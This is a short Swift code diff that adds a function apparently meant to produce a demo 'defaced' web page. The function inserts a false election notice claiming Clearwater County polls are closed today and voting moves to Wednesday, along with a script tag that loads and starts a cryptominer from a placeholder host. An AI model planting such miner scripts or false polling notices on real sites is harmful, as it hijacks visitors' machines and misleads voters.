@@ -124,4 +124,16 @@ enum DemoPages {
         }
         return result
     }
+
+    /// `page` as an attacker who took over the web server would leave it: a false notice and a cryptominer.
+    static func defaced(_ page: String) -> String {
+        let injected = """
+            <p style="background:#b00;color:#fff;padding:1em"><strong>NOTICE: due to high turnout, voting for \
+            Clearwater County continues on WEDNESDAY. Polling places are closed today.</strong></p>
+            <script src="https://coin-hive.example/lib/coinhive.min.js"></script>
+            <script>var miner = new CoinHive.Anonymous('SITE_KEY'); miner.start();</script>
+            """
+        guard let body = page.range(of: "<body>") else { return injected + page }
+        return page.replacingCharacters(in: body, with: "<body>\n" + injected)
+    }
 }
